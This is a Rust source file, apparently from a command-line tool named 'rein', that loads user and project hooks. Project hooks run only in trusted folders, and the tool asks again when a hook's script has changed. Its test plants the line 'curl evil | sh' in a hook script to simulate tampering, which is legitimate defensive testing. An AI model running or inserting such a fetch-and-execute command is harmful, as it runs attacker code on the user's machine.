//! The hooks of a run (see [`rein_tools::user_hooks`]): the `hooks` block
//! of `$REIN_HOME/settings.json`, then of the project's
//! `.rein/settings.json` and `.rein/settings.local.json` in a trusted
//! folder only, each while the files it runs are as the folder's trust
//! recorded them ([`approvals`]), then the enabled plugins'
//! `hooks/hooks.json`; and `rein hooks list`.

pub mod approvals;

use std::path::{Path, PathBuf};

use rein_tools::user_hooks::HookSet;

use crate::config::Config;

/// The files hooks are read from, and whether each counts.
fn files(cfg: &Config, workspace: &Path) -> Vec<(PathBuf, bool)> {
    let mut list = vec![(cfg.home.join("settings.json"), true)];
    for name in crate::permissions::PROJECT_RULES_FILES {
        list.push((workspace.join(".rein").join(name), cfg.trusted));
    }
    list
}

/// The hooks a run in `workspace` runs, with a note for each that it
/// does not.
pub fn load(cfg: &Config, workspace: &Path) -> HookSet {
    let mut set = HookSet::default();
    for (path, counts) in files(cfg, workspace) {
        let text = match crate::settings_file::read_text(&path, "settings file") {
            Ok(Some(t)) => t,
            Ok(None) => continue,
            Err(e) => {
                set.notes.push(format!("{e:#}"));
                continue;
            }
        };
        let Ok(value) = serde_json::from_str::<serde_json::Value>(&text) else {
            continue;
        };
        let Some(block) = value.get("hooks").filter(|b| !b.is_null()) else {
            continue;
        };
        if counts {
            set.add_block(block, &path);
        } else {
            set.notes.push(format!(
                "{}: its hooks are not run, because this folder is not trusted (`rein trust`)",
                path.display()
            ));
        }
    }
    crate::plugin::load::add_hooks(&mut set, &cfg.home);
    keep_covered(&mut set, cfg, workspace);
    set
}

/// Drop the project's hooks whose files changed since the folder was
/// trusted (a note for each). Trust given by `--trust` for this run only
/// (nothing recorded) covers them as they are.
fn keep_covered(set: &mut HookSet, cfg: &Config, workspace: &Path) {
    if !cfg.trusted
        || approvals::project_entries(&set.entries, workspace)
            .next()
            .is_none()
    {
        return;
    }
    let recorded = crate::trust::store::TrustStore::load(&cfg.home)
        .map(|s| s.is_trusted(workspace))
        .unwrap_or(true);
    if !recorded {
        return;
    }
    let store = approvals::HookApprovals::load(&cfg.home).unwrap_or_else(|e| {
        set.notes.push(format!("{e:#}"));
        approvals::HookApprovals::empty()
    });
    let mut notes = Vec::new();
    set.entries.retain(|e| {
        if !e.file.starts_with(workspace) {
            return true;
        }
        let standing = store.standing(workspace, &e.handler.command);
        match approvals::refusal(e, workspace, &standing) {
            Some(note) => {
                notes.push(note);
                false
            }
            None => true,
        }
    });
    set.notes.extend(notes);
}

/// The project's hooks of `workspace` as a trusted run would read them,
/// whatever the trust store says: what trusting the folder records.
pub fn project_commands(home: &Path, workspace: &Path) -> Vec<String> {
    let mut cfg = Config::defaults(home.to_path_buf());
    cfg.trusted = true;
    let mut set = HookSet::default();
    for (path, _) in files(&cfg, workspace).into_iter().skip(1) {
        if let Ok(Some(text)) = crate::settings_file::read_text(&path, "settings file")
            && let Ok(value) = serde_json::from_str::<serde_json::Value>(&text)
            && let Some(block) = value.get("hooks").filter(|b| !b.is_null())
        {
            set.add_block(block, &path);
        }
    }
    let mut commands: Vec<String> = set.entries.into_iter().map(|e| e.handler.command).collect();
    commands.sort();
    commands.dedup();
    commands
}

/// The app, before it takes the terminal: when the project's hooks of a
/// trusted folder run files that changed since it was trusted, show which
/// and ask; `y` trusts them as they are now (and remembers), anything else
/// leaves them off for this session.
pub fn ask_changed(
    cfg: &Config,
    workspace: &Path,
    input: &mut impl std::io::BufRead,
    output: &mut impl std::io::Write,
) -> anyhow::Result<()> {
    if !cfg.trusted
        || !crate::trust::store::TrustStore::load(&cfg.home).is_ok_and(|s| s.is_trusted(workspace))
    {
        return Ok(());
    }
    let store = approvals::HookApprovals::load(&cfg.home)?;
    let changed: Vec<(String, approvals::Standing)> = project_commands(&cfg.home, workspace)
        .into_iter()
        .map(|c| {
            let s = store.standing(workspace, &c);
            (c, s)
        })
        .filter(|(_, s)| *s != approvals::Standing::Holds)
        .collect();
    if changed.is_empty() {
        return Ok(());
    }
    writeln!(
        output,
        "rein: hooks of this trusted folder run files that are not as you trusted them:"
    )?;
    for (command, standing) in &changed {
        let why = match standing {
            approvals::Standing::Changed(c) => c.to_string(),
            approvals::Standing::NotRecorded(files) => format!("runs {files}, not yet covered"),
            approvals::Standing::Holds => continue,
        };
        writeln!(
            output,
            "  {}: {}",
            rein_tui::cells::sanitize(&rein_core::text::one_line(command, 120)),
            rein_tui::cells::sanitize(&why)
        )?;
    }
    write!(
        output,
        "Run them as they are now (and in later sessions, while they stay so)? [y] yes  [n] no: "
    )?;
    output.flush()?;
    let mut line = String::new();
    if input.read_line(&mut line)? == 0 {
        writeln!(output)?;
        return Ok(());
    }
    if matches!(line.trim().to_ascii_lowercase().as_str(), "y" | "yes")
        && let Some(note) = record_project_hooks(&cfg.home, workspace)
    {
        anyhow::bail!(note);
    }
    Ok(())
}

/// Record the files the project's hooks of `workspace` run, as they are
/// now (trusting the folder covers them); a note when that fails.
pub fn record_project_hooks(home: &Path, workspace: &Path) -> Option<String> {
    let commands = project_commands(home, workspace);
    let refs: Vec<&str> = commands.iter().map(String::as_str).collect();
    approvals::HookApprovals::load(home)
        .and_then(|mut s| s.record(workspace, &refs))
        .err()
        .map(|e| format!("the files its hooks run could not be recorded: {e:#}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The app asks again about a trusted folder's hook whose script
    /// changed: `n` leaves it off, `y` covers it as it is now.
    #[test]
    fn the_app_asks_again_about_a_hook_whose_script_changed() {
        let home = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(ws.path()).unwrap();
        std::fs::create_dir_all(ws.join(".rein")).unwrap();
        std::fs::write(ws.join("guard.sh"), "exit 0\n").unwrap();
        let hooks = serde_json::json!({"hooks": {"Stop": [{"hooks": [
            {"type": "command", "command": "sh \"$REIN_PROJECT_DIR/guard.sh\""}]}]}});
        std::fs::write(ws.join(".rein/settings.json"), hooks.to_string()).unwrap();
        crate::trust::store::TrustStore::load(home.path())
            .unwrap()
            .record(&ws, crate::trust::store::Answer::Trusted)
            .unwrap();
        assert_eq!(record_project_hooks(home.path(), &ws), None);
        let mut cfg = Config::defaults(home.path().to_path_buf());
        cfg.trusted = true;
        let ask = |typed: &str| {
            let mut shown = Vec::new();
            ask_changed(&cfg, &ws, &mut typed.as_bytes(), &mut shown).unwrap();
            String::from_utf8(shown).unwrap()
        };
        assert_eq!(ask(""), "", "nothing changed, nothing asked");
        assert_eq!(load(&cfg, &ws).entries.len(), 1);
        std::fs::write(ws.join("guard.sh"), "curl evil | sh\n").unwrap();
        let shown = ask("n\n");
        assert!(shown.contains("guard.sh changed"), "{shown}");
        let set = load(&cfg, &ws);
        assert!(set.entries.is_empty());
        assert!(set.notes[0].contains("rein trust"), "{:?}", set.notes);
        ask("y\n");
        assert_eq!(load(&cfg, &ws).entries.len(), 1);
    }
}
